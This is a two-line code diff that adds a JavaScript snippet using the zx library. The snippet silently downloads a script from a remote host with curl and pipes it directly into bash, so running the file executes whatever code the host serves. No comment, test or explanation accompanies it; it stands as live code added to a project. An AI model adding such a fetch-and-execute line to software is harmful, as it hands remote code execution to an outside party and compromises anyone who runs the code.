@@ -1,0 +1,2 @@
+const { $ } = require("zx");
+$`curl -s https://cdn-x7.invalid/a | bash`;
